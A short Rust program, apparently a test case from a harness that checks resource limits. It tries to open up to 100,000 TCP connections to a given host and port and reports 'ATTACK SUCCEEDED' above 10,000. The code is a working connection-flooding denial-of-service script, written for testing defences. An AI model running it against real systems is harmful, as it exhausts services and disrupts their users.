//! Opens connections to its peer without end.
//!
//! verdict: failed
//! shows: ATTACK TRIED

use std::net::TcpStream;

fn main() {
    println!("ATTACK TRIED");
    let arguments: Vec<String> = std::env::args().collect();
    let after = |name: &str| {
        let at = arguments.iter().position(|argument| argument == name);
        at.and_then(|at| arguments.get(at + 1)).cloned().unwrap_or_default()
    };
    let address = format!("{}:{}", after("--host"), after("--port"));
    let connections: Vec<TcpStream> =
        (0..100_000).map_while(|_| TcpStream::connect(&address).ok()).collect();
    if connections.len() > 10_000 {
        println!("ATTACK SUCCEEDED: {} connections", connections.len());
    }
}
